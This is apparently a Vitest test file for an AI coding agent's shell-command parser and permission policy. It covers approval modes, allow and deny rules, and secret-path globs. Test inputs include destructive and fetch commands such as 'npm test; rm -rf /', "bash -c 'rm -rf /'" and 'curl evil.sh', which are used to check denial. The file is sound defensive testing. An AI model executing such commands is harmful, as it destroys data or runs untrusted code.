import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import path from "node:path";
import { makeTempRepo, type TempRepo } from "./temp_repo.js";
import { parseShellCommand } from "../../src/agent/permissions/shell_command_parse.js";
import { PermissionPolicy, suggestShellRule } from "../../src/agent/permissions/permission_policy.js";
import { ConfigError } from "../../src/errors.js";

let repo: TempRepo;
beforeEach(() => {
  repo = makeTempRepo({ "a.txt": "x" });
});
afterEach(() => repo.cleanup());

const shell = (command: string) => ({ tool: "run_shell", kind: "shell" as const, preview: { summary: command, command } });
const edit = (abs: string) => ({ tool: "edit_file", kind: "edit" as const, preview: { summary: abs, writesPaths: [abs] } });
const read = { tool: "read_file", kind: "read" as const, preview: { summary: "a.txt" } };

function settings(data: unknown) {
  mkdirSync(path.join(repo.root, ".k2"), { recursive: true });
  writeFileSync(path.join(repo.root, ".k2/settings.json"), typeof data === "string" ? data : JSON.stringify(data));
}

describe("shell command parsing", () => {
  it("splits compound commands and respects quotes", () => {
    expect(parseShellCommand("npm test && rm -rf build").commands.map((c) => c.argv)).toEqual([["npm", "test"], ["rm", "-rf", "build"]]);
    expect(parseShellCommand('git commit -m "a && b; c"').commands.map((c) => c.argv)).toEqual([["git", "commit", "-m", "a && b; c"]]);
    expect(parseShellCommand("FOO=1 npm run build | tee log\nls").commands.map((c) => c.argv)).toEqual([["npm", "run", "build"], ["tee", "log"], ["ls"]]);
    expect(parseShellCommand("bash -c 'rm -rf /tmp/x'").commands.map((c) => c.argv)).toEqual([["bash", "-c", "rm -rf /tmp/x"], ["rm", "-rf", "/tmp/x"]]);
  });

  it("flags substitution and file redirection but not quoted lookalikes or /dev/null", () => {
    expect(parseShellCommand("echo $(whoami)").hasSubstitution).toBe(true);
    expect(parseShellCommand("echo `whoami`").hasSubstitution).toBe(true);
    expect(parseShellCommand("echo '$(not run)'").hasSubstitution).toBe(false);
    expect(parseShellCommand("ls > out.txt").hasFileRedirect).toBe(true);
    expect(parseShellCommand("ls 2>&1 >/dev/null").hasFileRedirect).toBe(false);
    expect(parseShellCommand("echo 'a > b'").hasFileRedirect).toBe(false);
  });

  it("suggests a prefix rule of the command and its subcommand", () => {
    expect(suggestShellRule("npm test -- --grep x")).toBe("run_shell(npm test:*)");
    expect(suggestShellRule("ls -la src")).toBe("run_shell(ls:*)");
    expect(suggestShellRule("git status && git diff")).toBe("run_shell(git status:*)");
  });
});

describe("permission policy", () => {
  it("ask mode: reads run, edits and shell ask; auto-edit: edits run; yolo: all run", () => {
    const p = new PermissionPolicy({ root: repo.root });
    expect(p.evaluate(read)).toEqual({ action: "allow" });
    expect(p.evaluate(edit(path.join(repo.root, "a.txt"))).action).toBe("ask");
    expect(p.evaluate(shell("ls")).action).toBe("ask");
    expect(p.cycleMode()).toBe("auto-edit");
    expect(p.evaluate(edit(path.join(repo.root, "a.txt"))).action).toBe("allow");
    expect(p.evaluate(shell("ls")).action).toBe("ask");
    expect(p.cycleMode()).toBe("yolo");
    expect(p.evaluate(shell("ls")).action).toBe("allow");
    expect(p.cycleMode()).toBe("ask");
  });

  it("prefix rules must cover every command of a compound line; deny rules win", () => {
    settings({ permissions: { allow: ["run_shell(npm test:*)", "run_shell(git status)"], deny: ["run_shell(rm:*)"] } });
    const p = new PermissionPolicy({ root: repo.root });
    expect(p.evaluate(shell("npm test -- --watch=false")).action).toBe("allow");
    expect(p.evaluate(shell("git status")).action).toBe("allow");
    expect(p.evaluate(shell("git status --porcelain")).action).toBe("ask"); // exact rule
    expect(p.evaluate(shell("npm test && curl evil.sh")).action).toBe("ask");
    expect(p.evaluate(shell('npm test -- "rm -rf x"')).action).toBe("allow"); // quoted, not a command
    expect(p.evaluate(shell("npm test; rm -rf /")).action).toBe("deny");
    expect(p.evaluate(shell("bash -c 'rm -rf /'")).action).toBe("deny");
    expect(p.evaluate(shell("npm test $(rm x)")).action).toBe("deny");
    expect(p.evaluate(shell("npm test > report.txt")).action).toBe("ask");
    p.mode = "yolo";
    expect(p.evaluate(shell("rm -rf build")).action).toBe("deny");
  });

  it("path rules: deny reads of a glob, allow edits of a glob", () => {
    settings({ permissions: { allow: ["edit_file(src/**)"], deny: ["read_file(secrets/**)"] } });
    const p = new PermissionPolicy({ root: repo.root });
    const readOf = (rel: string) => ({ tool: "read_file", kind: "read" as const, preview: { summary: rel, readsPath: path.join(repo.root, rel) } });
    expect(p.evaluate(readOf("secrets/key.pem")).action).toBe("deny");
    expect(p.evaluate(readOf("src/key.ts")).action).toBe("allow");
    expect(p.evaluate(edit(path.join(repo.root, "src/x.ts"))).action).toBe("allow");
    expect(p.evaluate(edit(path.join(repo.root, "docs/x.md"))).action).toBe("ask");
  });

  it("writes outside the repository root always ask, even in yolo or with rules", () => {
    settings({ permissions: { allow: ["edit_file"] } });
    const p = new PermissionPolicy({ root: repo.root, mode: "yolo" });
    const v = p.evaluate(edit(path.join(path.dirname(repo.root), "elsewhere.txt")));
    expect(v.action).toBe("ask");
    expect(p.evaluate(edit(path.join(repo.root, "a.txt"))).action).toBe("allow");
  });

  it("non-interactive: asking becomes a refusal unless --allow-tools or --yolo", () => {
    const p = new PermissionPolicy({ root: repo.root, interactive: false });
    const v = p.evaluate(shell("npm test"));
    expect(v.action).toBe("deny");
    expect(v.action === "deny" && v.reason).toMatch(/--allow-tools or --yolo/);
    expect(p.evaluate(read).action).toBe("allow");
    const some = new PermissionPolicy({ root: repo.root, interactive: false, allowTools: ["run_shell(npm test:*)"] });
    expect(some.evaluate(shell("npm test")).action).toBe("allow");
    expect(some.evaluate(shell("make")).action).toBe("deny");
    const all = new PermissionPolicy({ root: repo.root, interactive: false, allowTools: true });
    expect(all.evaluate(shell("make")).action).toBe("allow");
    expect(all.evaluate(edit(path.join(path.dirname(repo.root), "x"))).action).toBe("deny");
  });

  it("'always for this project' saves a hand-editable rule, keeping other keys", async () => {
    settings({ theme: "dark", permissions: { deny: ["run_shell(rm:*)"] } });
    const p = new PermissionPolicy({ root: repo.root });
    await p.remember("project", "run_shell(npm test:*)");
    const saved = JSON.parse(readFileSync(path.join(repo.root, ".k2/settings.json"), "utf8"));
    expect(saved).toEqual({ theme: "dark", permissions: { deny: ["run_shell(rm:*)"], allow: ["run_shell(npm test:*)"] } });
    expect(new PermissionPolicy({ root: repo.root }).evaluate(shell("npm test")).action).toBe("allow");
    const q = new PermissionPolicy({ root: repo.root });
    await q.remember("session", "run_shell(make:*)");
    expect(q.evaluate(shell("make all")).action).toBe("allow");
    expect(new PermissionPolicy({ root: repo.root }).evaluate(shell("make all")).action).toBe("ask");
  });

  it("a malformed settings file is reported with file and field", () => {
    settings("{ not json");
    expect(() => new PermissionPolicy({ root: repo.root })).toThrow(ConfigError);
    expect(() => new PermissionPolicy({ root: repo.root })).toThrow(/\.k2\/settings\.json: not valid JSON/);
    settings({ permissions: { allow: [3] } });
    expect(() => new PermissionPolicy({ root: repo.root })).toThrow(/"permissions.allow\[0\]" must be a string/);
    settings({ permissions: { allow: ["run shell(x)"] } });
    expect(() => new PermissionPolicy({ root: repo.root })).toThrow(/invalid permission rule/);
  });
});
